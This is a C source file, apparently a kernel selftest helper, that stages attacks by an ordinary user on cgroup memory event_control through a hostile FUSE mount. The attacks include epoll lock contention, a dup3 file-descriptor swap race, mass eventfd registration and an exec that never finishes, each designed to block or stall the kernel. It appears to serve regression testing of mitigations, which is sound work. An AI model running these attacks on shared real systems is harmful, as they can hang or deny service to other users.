// SPDX-License-Identifier: GPL-2.0-only
/*
 * attack.c - attacks of an ordinary user on a shared mount
 *
 *   attack serve DIR		mount hostile_fuse.h on DIR, until killed
 *   attack KIND ARG...		write to cgroup.event_control of the group in
 * the directory that is the first argument; print the result attack watch
 * FILE            read FILE again and again until the standard input ends;
 * print how many milliseconds the longest read took, or takes
 *
 * An attack that has opened a hostile file cannot end before its server has.
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <time.h>
#include <unistd.h>

#include "command.h"
#include "hostile_fuse.h"

#define NS_PER_MS 1000000

/* how long until a thread that is to block has, in microseconds */
#define TO_BLOCK 200000

static int check(int ret, const char *what)
{
	if (ret >= 0)
		return ret;
	printf("%s: %s\n", what, strerrorname_np(errno));
	exit(1);
}

static uint64_t now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000 * NS_PER_MS + (uint64_t)ts.tv_nsec;
}

static void *shared(size_t size)
{
	void *p = mmap(NULL, size, PROT_READ | PROT_WRITE,
		       MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	if (p == MAP_FAILED)
		exit(1);
	return p;
}

static int open_in(const char *dir, const char *file, int flags)
{
	char path[4096];

	snprintf(path, sizeof(path), "%s/%s", dir, file);
	return check(open(path, flags | O_CLOEXEC), file);
}

/* Return: 0 or an errno */
static int write_event(int control, int efd, int cfd)
{
	char text[64];
	int n = snprintf(text, sizeof(text), "%d %d 1G", efd, cfd);

	return write(control, text, (size_t)n) == n ? 0 : errno;
}

static void wait_for_end(void)
{
	char byte;

	while (read(STDIN_FILENO, &byte, 1) > 0)
		;
}

static void allow_many_files(void)
{
	struct rlimit nofile;

	getrlimit(RLIMIT_NOFILE, &nofile);
	nofile.rlim_cur = nofile.rlim_max;
	setrlimit(RLIMIT_NOFILE, &nofile);
}

/* --- an epoll that is locked --- */

struct to_poll {
	int epfd;
	int fd;
};

static void *poll_for_ever(void *arg)
{
	struct to_poll *p = arg;
	struct epoll_event event = { .events = EPOLLIN };

	epoll_ctl(p->epfd, EPOLL_CTL_ADD, p->fd, &event);
	return NULL;
}

/* add a hostile file: that is polled then, and the epoll locked as long */
static void lock_epoll(int epfd, const char *hostile)
{
	static struct to_poll p;
	pthread_t thread;

	p.epfd = epfd;
	p.fd = check(open(hostile, O_RDWR | O_CLOEXEC), "hostile");
	if (pthread_create(&thread, NULL, poll_for_ever, &p))
		exit(1);
	usleep(TO_BLOCK);
}

/* GROUP HOSTILE N: so many processes write an epoll; prints each answer */
static int do_epoll(char **arg)
{
	int control = open_in(arg[0], "cgroup.event_control", O_WRONLY);
	int cfd = open_in(arg[0], "memory.usage_in_bytes", O_RDONLY);
	int epfd = check(epoll_create1(0), "epoll"), i;

	lock_epoll(epfd, arg[1]);
	for (i = 0; i < atoi(arg[2]); i++)
		if (!fork()) {
			int err = write_event(control, epfd, cfd);

			printf("%s\n", err ? strerrorname_np(err) : "OK");
			fflush(stdout);
			_exit(0);
		}
	for (;;)
		pause();
}

/*
 * GROUP HOSTILE: register an eventfd that is in a locked epoll, and end. The
 * epoll stays with another process, the eventfd with the registration.
 */
static int do_last_close(char **arg)
{
	int control = open_in(arg[0], "cgroup.event_control", O_WRONLY);
	int cfd = open_in(arg[0], "memory.usage_in_bytes", O_RDONLY);
	int epfd = check(epoll_create1(0), "epoll");
	int efd = check(eventfd(0, 0), "eventfd"), err;
	struct epoll_event event = { .events = EPOLLIN };

	check(epoll_ctl(epfd, EPOLL_CTL_ADD, efd, &event), "epoll_ctl");
	if (!fork()) {
		close(efd);
		close(STDOUT_FILENO);
		lock_epoll(epfd, arg[1]);
		for (;;)
			pause();
	}
	usleep(2 * TO_BLOCK);
	err = write_event(control, efd, cfd);
	printf("%s\n", err ? strerrorname_np(err) : "OK");
	return 0;
}

/* --- a descriptor that is exchanged --- */

/*
 * Replacing a hostile file by another would close it. So each attempt has a
 * number of its own, and its file is exchanged once.
 */
static struct {
	_Atomic int target; /* the number to be exchanged now, or -1 */
	int hostile;
} race = { .target = -1 };

static void exchange_once(unsigned int *seed)
{
	uint64_t end;
	int target;

	do {
		target = atomic_load(&race.target);
	} while (target < 0);
	/* all the time that the daemon could take */
	end = now() + (uint64_t)rand_r(seed) % (2 * NS_PER_MS);
	while (now() < end)
		;
	dup3(race.hostile, target, O_CLOEXEC);
	atomic_store(&race.target, -1);
}

static void *exchange(void *unused)
{
	unsigned int seed = 1;

	(void)unused;
	while (race.hostile >= 0)
		exchange_once(&seed);
	return NULL;
}

/* Return: 0 or an errno */
static int race_once(int control, int original, int other, bool original_is_efd)
{
	int target = check(fcntl(original, F_DUPFD_CLOEXEC, 0), "dup"), err;

	atomic_store(&race.target, target);
	err = original_is_efd ? write_event(control, target, other) :
				write_event(control, other, target);
	while (atomic_load(&race.target) >= 0)
		;
	return err;
}

/*
 * GROUP HOSTILE MILLISECONDS: exchange the eventfd, or the control file, for a
 * hostile file while they are written. Prints how many were refused and how
 * many were not, and stays.
 */
static int do_race(char **arg)
{
	int control = open_in(arg[0], "cgroup.event_control", O_WRONLY);
	int cfd = open_in(arg[0], "memory.usage_in_bytes", O_RDONLY);
	int efd = check(eventfd(0, 0), "eventfd");
	uint64_t end = now() + (uint64_t)atoi(arg[2]) * NS_PER_MS;
	int tries = 0, registered = 0;
	pthread_t thread;

	allow_many_files();
	race.hostile = check(open(arg[1], O_RDWR | O_CLOEXEC), "hostile");
	if (pthread_create(&thread, NULL, exchange, NULL))
		exit(1);
	for (; now() < end; tries++) {
		bool of_efd = tries % 2;

		registered += !race_once(control, of_efd ? efd : cfd,
					 of_efd ? cfd : efd, of_efd);
	}
	printf("%d refused, %d registered\n", tries - registered, registered);
	fflush(stdout);
	for (;;)
		pause();
}

/* --- many --- */

/*
 * GROUP N: register so many eventfds and close each; prints the errno of the
 * first that is refused, or OK. Stays until the standard input ends.
 */
static int do_many(char **arg)
{
	int control = open_in(arg[0], "cgroup.event_control", O_WRONLY);
	int cfd = open_in(arg[0], "memory.usage_in_bytes", O_RDONLY);
	int i, efd, err = 0;

	for (i = 0; i < atoi(arg[1]); i++) {
		int ret;

		efd = check(eventfd(0, EFD_CLOEXEC), "eventfd");
		ret = write_event(control, efd, cfd);
		if (!err)
			err = ret;
		close(efd);
	}
	printf("%s\n", err ? strerrorname_np(err) : "OK");
	fflush(stdout);
	wait_for_end();
	return 0;
}

/* --- the others --- */

struct reads {
	_Atomic uint64_t begun; /* the read that takes place, or 0 */
	_Atomic uint64_t longest;
};

static void read_for_ever(const char *file, struct reads *reads)
{
	char buf[4096];

	for (;;) {
		uint64_t took;
		int fd;

		atomic_store(&reads->begun, now());
		fd = open(file, O_RDONLY);
		if (fd < 0 || read(fd, buf, sizeof(buf)) <= 0)
			_exit(1);
		close(fd);
		took = now() - atomic_load(&reads->begun);
		atomic_store(&reads->begun, 0);
		if (took > atomic_load(&reads->longest))
			atomic_store(&reads->longest, took);
		usleep(2000);
	}
}

static void go_on(int signal)
{
	(void)signal;
}

/*
 * In exec() a lock of the process is held while its file FILE is closed, which
 * never ends. exec FILE prints its pid, waits for SIGUSR1, and does that in a
 * child.
 */
static int do_exec(char **arg)
{
	signal(SIGUSR1, go_on);
	printf("%d\n", (int)getpid());
	fflush(stdout);
	pause();
	if (!fork()) {
		check(open(arg[0], O_RDONLY | O_CLOEXEC), arg[0]);
		close(STDOUT_FILENO);
		execl("/bin/true", "true", NULL);
	}
	pause();
	return 0;
}

static int do_watch(char **arg)
{
	struct reads *reads = shared(sizeof(*reads));
	uint64_t begun, longest;
	pid_t child = fork();

	if (!child)
		read_for_ever(arg[0], reads);
	wait_for_end();
	begun = atomic_load(&reads->begun);
	longest = atomic_load(&reads->longest);
	if (begun && now() - begun > longest)
		longest = now() - begun;
	printf("%lu\n", (unsigned long)(longest / NS_PER_MS));
	kill(child, SIGKILL);
	return 0;
}

static int do_serve(char **arg)
{
	return hostile_serve(arg[0]);
}

/* clang-format off */
static const struct command commands[] = {
	{ "epoll", 3, do_epoll }, { "exec", 1, do_exec },
	{ "last-close", 2, do_last_close },
	{ "many", 2, do_many },	  { "race", 3, do_race },
	{ "serve", 1, do_serve }, { "watch", 1, do_watch },
};
/* clang-format on */

int main(int argc, char **argv)
{
	return command_run(argc, argv, commands,
			   sizeof(commands) / sizeof(commands[0]), 0);
}
